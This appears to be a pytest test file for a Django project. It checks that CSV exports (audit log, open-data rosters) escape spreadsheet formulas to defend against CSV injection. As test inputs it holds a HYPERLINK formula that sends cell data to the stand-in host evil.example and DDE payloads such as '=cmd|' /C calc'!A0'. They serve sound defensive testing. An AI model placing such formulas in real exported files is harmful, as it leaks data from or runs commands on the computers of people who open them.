"""The project's own CSV exports make spreadsheet formulas inert (OWASP CSV injection; issue 11, W4)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.test import Client

from core.csvsafe import formula_safe_writer, is_formula, neutralise
from core.models import AuditEntry
from tests.conftest import appoint

ROOT = Path(__file__).resolve().parents[2]
ATTACK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")"


@pytest.mark.parametrize(
    ("cell", "formula"),
    [
        ("=1+1", True), ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True), ("-2+3+cmd|' /C calc'!A0", True),
        ("\t=1+1", True), ("\r\n=1+1", True), ("\u3000=1+1", True), (" @x", True),
        ("-500", False), ("+81-3-1234-5678", False), ("-", False), ("(017)734-9000", False),
        ("森 樹男", False), ("", False), ("a=b", False), (42, False), (None, False),
    ],
)
def test_is_formula(cell, formula):
    assert is_formula(cell) is formula
    assert neutralise(cell) == ("'" + cell if formula else cell)


def test_the_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = formula_safe_writer(out, lineterminator="\n")
    writer.writerow(["氏名", ATTACK, -5, "-5"])
    writer.writerows([["@x", "ok"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["氏名", "'" + ATTACK, "-5", "-5"], ["'@x", "ok"]]


def test_no_module_writes_csv_around_the_safe_writer():
    """Every CSV the project writes goes through core.csvsafe (opendata, fees, the audit log, rosters)."""
    found = []
    for path in ROOT.glob("*/**/*.py"):
        if path.parts[len(ROOT.parts)] in {".venv", "tests", "bench", "var"} or path.name == "csvsafe.py":
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            found.append(str(path.relative_to(ROOT)))
    assert found == []


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_audit_log_csv_neutralises_formulas(superuser):
    AuditEntry.objects.create(action="login_failed", actor_label="@SUM(1)", target_label=ATTACK, data={})
    client = Client()
    client.force_login(superuser, backend="django.contrib.auth.backends.ModelBackend")
    response = client.get("/manage/audit/", {"format": "csv"})
    assert response.status_code == 200
    row = next(r for r in _rows(response) if ATTACK in "".join(r))
    assert "'" + ATTACK in row and "'@SUM(1)" in row
    assert not any(is_formula(cell) for r in _rows(response) for cell in r)


@pytest.mark.django_db
def test_the_open_data_roster_csv_neutralises_formulas(body, in_term):
    body.is_public = True
    body.save(update_fields=["is_public"])
    appoint(body, "=cmd|' /C calc'!A0", "いいん", affiliation=ATTACK)
    response = Client().get(f"/opendata/bodies/{body.slug}/roster.csv", {"on": "2023-06-01"})
    assert response.status_code == 200
    cells = [cell for row in _rows(response) for cell in row]
    assert any(cell.startswith("'=cmd") for cell in cells), cells
    assert "'" + ATTACK in cells
    assert not any(is_formula(cell) for cell in cells)
